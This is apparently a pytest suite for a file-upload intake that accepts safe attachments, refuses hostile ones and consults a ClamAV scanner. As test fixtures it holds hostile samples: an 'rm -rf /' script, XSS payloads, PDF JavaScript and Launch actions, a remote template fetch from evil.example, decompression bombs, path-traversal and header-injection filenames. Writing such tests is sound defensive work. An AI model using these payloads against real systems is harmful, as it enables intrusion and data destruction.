"""Files as strangers send them: what is taken is what it says it is and can't act; everything else is refused."""

from __future__ import annotations

import io
import resource
import socket
import struct
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from threading import Thread

import pytest

from ventanilla.errors import StartRefused
from ventanilla.messages.attachments import Intake, Taken
from ventanilla.messages.attachments.refusing import Refused
from ventanilla.messages.attachments.scanning import ClamdScanner, ScannerAway
from ventanilla.messages.model import FileKind
from ventanilla.testing.writing import EICAR, a_pdf, an_image, an_office_file

MOST = 8 << 20
OPEN = Intake(None, is_required=True)


def take(name: str, content: bytes, intake: Intake = OPEN) -> Taken:
    return intake.take(name, content, MOST)


def why(name: str, content: bytes, intake: Intake = OPEN) -> str:
    with pytest.raises(Refused) as refused:
        take(name, content, intake)
    return refused.value.why.id.removeprefix("messages.file.")


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("счёт.pdf", a_pdf(), FileKind.PDF),
        ("фото.JPG", an_image(), FileKind.JPEG),
        ("scan.png", an_image("PNG"), FileKind.PNG),
        ("письмо.docx", an_office_file(), FileKind.DOCX),
        ("таблица.xlsx", an_office_file("xlsx", xl__printerSettings__printerSettings1_bin=b"x"), FileKind.XLSX),
        ("показания.txt", "Счётчик 123 📎 <- вот".encode(), FileKind.TEXT),
        ("показания.csv", "точка;показание\r\n1;2".encode("cp1251"), FileKind.TEXT),
        ("юникод.txt", "текст".encode("utf-16"), FileKind.TEXT),
        ("акт.2026.03.pdf", a_pdf(), FileKind.PDF),
    ],
)
def test_what_an_office_sends_is_taken_by_its_content(name: str, content: bytes, kind: FileKind) -> None:
    taken = take(name, content)
    assert (taken.kind, taken.name) == (kind, name)


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("x.pdf", b"", "empty"),
        ("x.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "kind"),
        ("x.txt", b"<svg onload=alert(1)>", "kind"),
        ("x.txt", b"hello <ScRiPt >alert(1)</script>", "kind"),
        ("x.html", b"<!DOCTYPE html><p>", "kind"),
        ("x.txt", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x 'y'>]>", "kind"),
        ("x.txt", b"#!/bin/sh\nrm -rf /", "kind"),
        ("x.txt", b"text\x00with a zero", "kind"),
        ("x.pdf", b"MZ\x90\x00" + b"\x00" * 100, "kind"),
        ("x.exe", a_pdf(), "ending"),
        ("x.pdf", an_image(), "ending"),
        ("x", a_pdf(), "ending"),
        (".htaccess", b"Options +Indexes", "ending"),
        ("a.pdf\x00.html", a_pdf(), "ending"),
        ("x\u202efdp.exe", a_pdf(), "ending"),
        ("invoice.exe.pdf", a_pdf(), "double_ending"),
        ("invoice.php.jpg", an_image(), "double_ending"),
        ("x.pdf", b"%PDF-1.4 no end", "broken"),
        ("x.pdf", a_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "active"),
        ("x.pdf", a_pdf(b"<</S/Java#53cript>>"), "active"),
        ("x.pdf", a_pdf(b"<</S/Launch/F(cmd.exe)>>"), "active"),
        ("x.pdf", a_pdf(b"<</EmbeddedFiles 5 0 R>>"), "active"),
        ("x.pdf", b"%PDF-1.4 <html><script>1</script>" + a_pdf(), "kind"),
        ("x.pdf", a_pdf() + an_office_file() + b"%%EOF", "kind"),
        ("x.pdf", a_pdf(b" obj" * 300_000), "bomb"),
        ("x.jpg", b"\xff\xd8\xff" + b"\x00" * 500, "broken"),
        ("x.png", b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", "broken"),
        ("x.docx", b"PK\x03\x04 and nothing", "broken"),
        ("x.docx", an_office_file(word__vbaProject_bin=b"x".replace(b"_", b".")), "active"),
        ("x.docx", an_office_file(word__embeddings__o1=b"x"), "active"),
        ("x.zip", an_office_file()[:0] + b"PK\x03\x04", "broken"),
    ],
)  # fmt: skip
def test_what_could_act_or_deceive_is_refused_with_the_reason(name: str, content: bytes, reason: str) -> None:
    assert why(name, content) == reason


def test_scripts_in_packed_objects_of_a_pdf_are_found() -> None:
    packed = zlib.compress(b"<</S/JavaScript/JS(1)>>")
    assert why("x.pdf", a_pdf(b"2 0 obj<</Type/ObjStm/Length 9>>stream\r\n" + packed + b"\nendstream")) == "active"
    bomb = zlib.compress(b" " * (20 << 20))
    assert why("x.pdf", a_pdf(b"2 0 obj<</Type/ObjStm/Length 9>>stream\n" + bomb + b"\nendstream")) == "bomb"


def test_a_document_that_fetches_a_template_is_refused() -> None:
    far = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    out = io.BytesIO(an_office_file())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/_rels/settings.xml.rels", far)
    assert why("x.docx", out.getvalue()) == "active"


def test_archives_that_grow_are_refused_unopened() -> None:
    out = io.BytesIO(an_office_file())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/zeros.bmp", b"\0" * (30 << 20))
    assert why("x.docx", out.getvalue()) == "bomb"
    assert why("x.docx", b"MZ" + an_office_file()) == "kind"
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("a.txt", "only an archive")
    assert why("x.docx", other.getvalue()) == "kind"


def png_that_claims(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IDAT", zlib.compress(b"\0" * 1_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body + chunk(b"IEND", b"")


def test_pixel_floods_are_refused_quickly_and_cost_the_portal_nothing() -> None:
    before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    assert why("x.png", png_that_claims(30_000, 30_000)) == "bomb"
    assert why("x.png", png_that_claims(19_000, 19_000)) == "bomb"
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64 << 10
    assert time.monotonic() - began < 15


def test_of_an_image_only_the_picture_is_left() -> None:
    from PIL import Image

    hidden = an_image("JPEG", comment=b"<script>alert(1)</script>") + b"PK\x03\x04<html><script>alert(2)</script>"
    kept = take("x.jpg", hidden).content
    assert b"script" not in kept
    assert b"PK\x03\x04" not in kept
    with Image.open(io.BytesIO(kept)) as picture:
        assert picture.size == (40, 30)
    with_place = an_image("JPEG", exif=b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00")
    assert b"Exif" not in take("x.jpg", with_place).content
    big = take("x.jpg", an_image("JPEG", (6_000, 3_000))).content
    with Image.open(io.BytesIO(big)) as picture:
        assert max(picture.size) <= 4_000


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("D:\\Анна\\счёт.pdf", "счёт.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ('a"; filename="b.html.pdf', None),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
        ("x" * 300 + ".pdf", "x" * 96 + ".pdf"),
        ("\u202eздесь\u200b.pdf", "здесь.pdf"),
        ("😀 смайл.pdf", "😀 смайл.pdf"),
        ("  .pdf", "file.pdf"),
    ],
)
def test_a_name_is_only_ever_shown(typed: str, shown: str | None) -> None:
    if shown is None:
        assert why(typed, a_pdf()) == "double_ending"
    else:
        assert take(typed, a_pdf()).name == shown


def test_a_file_over_the_limit_is_refused() -> None:
    with pytest.raises(Refused) as refused:
        OPEN.take("x.pdf", a_pdf(b" " * 2_000_000), 1 << 20)
    assert refused.value.why.values == {"megabytes": 1}


class Clamd:
    """As much of clamd's protocol as a scan needs, on a real socket."""

    def __init__(self, listener: socket.socket, answer: bytes = b"") -> None:
        self.listener, self.answer, self.seen = listener, answer, b""
        listener.listen()
        Thread(target=self.serve, daemon=True).start()

    def serve(self) -> None:
        while True:
            try:
                peer, _ = self.listener.accept()
            except OSError:
                return
            with peer:
                self.seen = self.read(peer)
                found = b"stream: Eicar-Test-Signature FOUND\0" if EICAR in self.seen else b"stream: OK\0"
                peer.sendall(self.answer or found)

    def read(self, peer: socket.socket) -> bytes:
        stream = peer.makefile("rb")
        assert stream.read(10) == b"zINSTREAM\0"
        seen = b""
        while size := struct.unpack("!I", stream.read(4))[0]:
            seen += stream.read(size)
        stream.close()
        return seen


@pytest.fixture(params=["tcp", "unix"])
def clamd(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Clamd, ClamdScanner]]:
    if request.param == "tcp":
        listener = socket.create_server(("127.0.0.1", 0))
        address = f"tcp://127.0.0.1:{listener.getsockname()[1]}"
    else:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(str(tmp_path / "clamd.ctl"))
        address = f"unix://{tmp_path / 'clamd.ctl'}"
    yield Clamd(listener), ClamdScanner(address)
    listener.close()


def test_the_scanner_is_shown_the_whole_file_and_believed(clamd: tuple[Clamd, ClamdScanner]) -> None:
    server, scanner = clamd
    intake = Intake(scanner, is_required=True)
    body = a_pdf(b"x" * 200_000)
    assert take("x.pdf", body, intake).content == body
    assert server.seen == body
    assert why("eicar.txt", EICAR, intake) == "virus"
    assert take("eicar.txt", EICAR, OPEN).kind is FileKind.TEXT


def test_an_answer_that_says_nothing_refuses_unless_the_settings_let_it_be(clamd: tuple[Clamd, ClamdScanner]) -> None:
    server, scanner = clamd
    server.answer = b"INSTREAM size limit exceeded. ERROR\0"
    with pytest.raises(ScannerAway):
        scanner.scan(b"x")
    assert why("x.pdf", a_pdf(), Intake(scanner, is_required=True)) == "unscanned"
    assert take("x.pdf", a_pdf(), Intake(scanner, is_required=False)).kind is FileKind.PDF


def test_a_scanner_that_is_away_refuses() -> None:
    with socket.create_server(("127.0.0.1", 0)) as gone:
        port = gone.getsockname()[1]
    assert why("x.pdf", a_pdf(), Intake(ClamdScanner(f"tcp://127.0.0.1:{port}"), is_required=True)) == "unscanned"


@pytest.mark.parametrize(
    "address", ["clamd", "tcp://", "tcp://host", "tcp://host:99999", "unix://relative", "http://x:1"]
)
def test_a_scanner_without_an_address_does_not_start(address: str) -> None:
    with pytest.raises(StartRefused):
        ClamdScanner(address)
